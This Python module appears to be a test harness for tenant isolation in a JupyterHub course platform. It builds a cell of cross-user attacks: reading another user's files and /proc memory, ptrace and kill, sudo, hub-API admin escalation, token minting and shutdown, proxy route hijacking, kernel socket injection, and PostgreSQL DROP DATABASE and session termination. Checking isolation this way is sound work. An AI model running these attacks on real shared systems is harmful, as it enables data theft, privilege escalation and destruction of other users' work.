"""What one learner of a hub tries against another, run in the attacker's own kernel. No tests in here.

The one who plays knows more than a learner would: the other's process and port numbers are handed over.
"""

import json
from typing import Any

THROUGH, REFUSED = "through", "refused"

# Runs in the kernel. `GIVEN` is filled in; each attack prints a line of JSON.
CODE = """
import json, os, signal, socket, subprocess, urllib.error, urllib.request
from pathlib import Path
GIVEN = json.loads({given!r})
HOME = Path(GIVEN["home"])
TOKEN = os.environ["JUPYTERHUB_API_TOKEN"]

def attack(name, what):
    try:
        got = what()
        outcome, words = ("refused", "nothing there") if got in (None, "", b"", []) else ("through", repr(got))
    except BaseException as error:
        outcome, words = "refused", f"{{type(error).__name__}}: {{error}}"
    print("ATTACK " + json.dumps([name, outcome, words[:160]]))

def fetch(path, method="GET", body=None, token=TOKEN, base=None):
    request = urllib.request.Request((base or GIVEN["hub"]) + path, method=method)
    request.add_header("Authorization", f"token {{token}}")
    data = None if body is None else json.dumps(body).encode()
    with urllib.request.urlopen(request, data, timeout=20) as answer:
        if "/hub/" in answer.url and "/hub/api" not in answer.url:
            raise PermissionError(f"sent away to {{answer.url.split('?')[0]}}")
        return answer.read()[:80].decode("utf-8", "replace")

def write(path):
    Path(path).write_text("mallory")
    return "written"

attack("list the other's home", lambda: os.listdir(HOME))
attack("read the other's progress log", lambda: (HOME / "course/progress.jsonl").read_text())
attack("read the other's board identity", lambda: (HOME / "course/.course/room.json").read_text())
attack("write into the other's folder", lambda: write(HOME / "course/postboard/app/main.py"))
attack("read the other's connection file", lambda: open(GIVEN["connection"]).read())
for name in ("environ", "mem", "cmdline", "cwd"):
    def look(name=name):
        place = f"/proc/{{GIVEN['pid']}}/{{name}}"
        return os.readlink(place) if name == "cwd" else open(place, "rb").read(100)
    if name != "cmdline" or GIVEN["hidden"]:
        attack(f"read /proc/PID/{{name}} of the other's server", look)
attack("see the other's processes", lambda: [pid for pid in os.listdir("/proc") if pid.isdecimal()
    and os.stat(f"/proc/{{pid}}").st_uid == GIVEN["uid"]] if GIVEN["hidden"] else None)
attack("stop the other's server by a signal", lambda: os.kill(GIVEN["pid"], signal.SIGTERM) or "sent")
attack("trace the other's server", lambda: __import__("ctypes").CDLL(None, use_errno=True).ptrace(16, GIVEN["pid"], 0, 0) + 1 or None)
attack("become root by sudo", lambda: subprocess.run(["sudo", "-n", "id"], capture_output=True, text=True).stdout)
for place in GIVEN["secrets"]:
    attack(f"read {{place}}", lambda: open(place).read())
attack("change the course's code", lambda: write(GIVEN["code"]))

other = f"/user/{{GIVEN['name']}}"
attack("the other's server through the proxy", lambda: fetch(f"{{other}}/api/contents"))
attack("the other's kernels through the proxy", lambda: fetch(f"{{other}}/api/kernels"))
attack("a terminal at the other's server", lambda: fetch(f"{{other}}/api/terminals", "POST", {{}}))
attack("the other's server at its own port", lambda: fetch(f"{{other}}/api/contents", base=GIVEN["server"]))
attack("the same without a token", lambda: fetch(f"{{other}}/api/kernels", base=GIVEN["server"], token=""))
attack("all users of the hub", lambda: fetch("/hub/api/users"))
attack("the other's user at the hub", lambda: fetch(f"/hub/api/users/{{GIVEN['name']}}"))
attack("stop the other's server by the hub", lambda: fetch(f"/hub/api/users/{{GIVEN['name']}}/server", "DELETE"))
attack("a token for the other", lambda: fetch(f"/hub/api/users/{{GIVEN['name']}}/tokens", "POST", {{}}))
attack("become an admin", lambda: fetch(f"/hub/api/users/{{os.environ['JUPYTERHUB_USER']}}", "PATCH", {{"admin": True}}))
attack("stop the hub", lambda: fetch("/hub/api/shutdown", "POST", {{}}))
attack("the hub's admin page", lambda: fetch("/hub/admin"))
attack("the routes of the proxy", lambda: fetch("/api/routes", base=GIVEN["proxy"]))
attack("a route of the proxy to one's own port", lambda: fetch(f"/api/routes{{other}}", "POST", {{"target": "http://127.0.0.1:9"}}, base=GIVEN["proxy"]))

def speak_to_the_kernel():
    import zmq
    from jupyter_client.session import Session
    os.stat(GIVEN["socket"])
    link = zmq.Context.instance().socket(zmq.DEALER)
    link.linger = 0
    link.connect(f"ipc://{{GIVEN['socket']}}")
    Session(key=b"guessed").send(link, "execute_request", {{"code": "open('/tmp/mallory', 'w')", "silent": False}})
    answered = link.poll(4000)
    link.close()
    return "it answered" if answered else None
attack("run code in the other's kernel by its socket", speak_to_the_kernel)

def sql(statement, database=None, user=None, port=None):
    import psycopg2
    from psycopg2.extensions import parse_dsn
    from course import postgres
    parts = parse_dsn(postgres.url("attack"))
    parts["dbname"] = database or GIVEN["own_database"] or "postgres"
    parts["port"] = port or parts["port"]
    parts["user"] = user or parts["user"]
    link = psycopg2.connect(**parts, connect_timeout=10)
    link.autocommit = True
    with link.cursor() as cursor:
        cursor.execute(statement)
        return cursor.fetchall() if cursor.description else "done"
for database in GIVEN["databases"]:
    attack(f"connect to {{database}}", lambda: sql("SELECT 1", database))
    attack(f"drop {{database}}", lambda: sql(f'DROP DATABASE "{{database}}" WITH (FORCE)'))
    if database != "template1":  # everybody copies that one, and it is empty
        attack(f"copy {{database}}", lambda: sql(f'CREATE DATABASE mallory_copy TEMPLATE "{{database}}"'))
if GIVEN["role"]:
    attack("log in as the other's role", lambda: sql("SELECT 1", GIVEN["role"], GIVEN["role"]))
    attack("end the other's sessions", lambda: [row for row in sql(
        f"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = '{{GIVEN['role']}}'") if row[0]])
    attack("read the other's statements", lambda: [row for row in sql(
        f"SELECT query FROM pg_stat_activity WHERE usename = '{{GIVEN['role']}}'") if row[0] != "<insufficient privilege>"])
    attack("read the server's log", lambda: sql("SELECT pg_read_file(pg_current_logfile())"))
if GIVEN["postgres_port"]:
    attack("get into the other's own PostgreSQL", lambda: sql("SELECT 1", port=GIVEN["postgres_port"]))
    attack("the same as its administrator", lambda: sql("SELECT 1", user="course_admin", port=GIVEN["postgres_port"]))
attack("see the other's files in /tmp", lambda: [name for name in os.listdir("/tmp")
    if os.stat(f"/tmp/{{name}}").st_uid == GIVEN["uid"] and (os.access(f"/tmp/{{name}}", os.R_OK) or os.access(f"/tmp/{{name}}", os.W_OK))])
"""


def code(given: dict[str, Any]) -> str:
    """The attacks as one cell, with what is known of the other filled in."""
    return CODE.format(given=json.dumps(given))


def outcomes(said: str) -> list[tuple[str, str, str]]:
    """What came of each: its name, "refused" or "through", and the words of it."""
    lines = [line.removeprefix("ATTACK ") for line in said.splitlines() if line.startswith("ATTACK ")]
    return [tuple(json.loads(line)) for line in lines]
